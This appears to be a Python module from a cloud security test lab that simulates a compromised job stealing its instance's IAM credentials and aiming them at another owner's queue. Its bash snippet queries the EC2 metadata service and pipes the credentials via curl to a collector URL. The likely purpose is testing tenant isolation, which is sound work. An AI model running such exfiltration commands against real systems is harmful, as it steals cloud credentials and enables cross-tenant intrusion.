"""Credentials of an instance that code of its machine has sent out, and what they are aimed at."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from attacks import hosts
from attacks.calls import Target, client
from attacks.collector import Collector
from mayfly_lab.contracts import Keys
from stories.stage import Stage
from whole.steps import HOLD

TAKEN, VICTIM = "taken", "victim"
"""The queue whose credentials are out, and the queue of another owner."""
ROLES = ("bootstrap", "sandbox")
_SENDS = """
imds=http://169.254.169.254/latest
token=$(curl -fsS -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $imds/api/token)
ask() { curl -fsS -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/iam/$1; }
ask security-credentials/$(ask security-credentials/) | curl -fsS -d @- """
SCRIPT = f"#!/bin/bash\nset -eu{_SENDS}$COLLECTOR/boot\n"
"""The bootstrap script that sends its credentials out."""


@dataclass(frozen=True, slots=True)
class Held:
    """What the attacker holds: credentials of both roles of an instance whose job runs."""

    stage: Stage
    job: str
    instance: str
    bootstrap: Keys
    sandbox: Keys
    victim: Target

    def keys(self, role: str) -> Keys:
        """The credentials of a role; STS must name the role and the instance as their owner."""
        found = self.bootstrap if role == "bootstrap" else self.sandbox
        caller = client(self.stage, "sts", found).get_caller_identity()["Arn"]
        assert caller.endswith(f"assumed-role/{self.role_name(role)}/{self.instance}")
        return found

    def role_name(self, role: str) -> str:
        """The name of the queue's role."""
        name: str = self.stage.published(TAKEN)[f"{role}_role"].rpartition("/")[2]
        return name

    def row(self, role: str) -> str:
        """The mailbox row of the instance in a role."""
        record = self.stage.instance(self.instance)
        return (record.bootstrap_row if role == "bootstrap" else record.sandbox_row) or ""


def read_keys(body: str) -> Keys:
    """The credentials in a document of the metadata service."""
    sent = json.loads(body)
    later = datetime.now(UTC) + timedelta(hours=6)
    return Keys(sent["AccessKeyId"], sent["SecretAccessKey"], sent["Token"], later)


@contextmanager
def holding(stage: Stage, collector: Collector) -> Iterator[Held]:
    """Let a job send its credentials out, and run on until the end of the context."""
    job = stage.push(TAKEN, f"{_SENDS}{collector.url}/sandbox\n{HOLD}")
    instance = stage.running(job)
    sandbox = stage.until("the job's credentials are out", lambda: collector.sent("/sandbox"))[0]
    (boot,) = collector.sent("/boot")
    held = Held(stage, job, instance, read_keys(boot.body), read_keys(sandbox.body), _victim(stage))
    yield held
    hosts.run(stage, instance, "touch /tmp/go")


def _victim(stage: Stage) -> Target:
    (ready,) = stage.ready(VICTIM)
    record = stage.instance(ready)
    roles = stage.lab.aws.client("iam").list_roles()["Roles"]
    return Target(
        instance=ready,
        bootstrap_row=record.bootstrap_row or "",
        sandbox_row=record.sandbox_row or "",
        queue=VICTIM,
        own_queue=TAKEN,
        function_role=next(r["RoleName"] for r in roles if "ispatch" in r["RoleName"]),
        host_role=stage.published(VICTIM)["bootstrap_role"].rpartition("/")[2],
    )
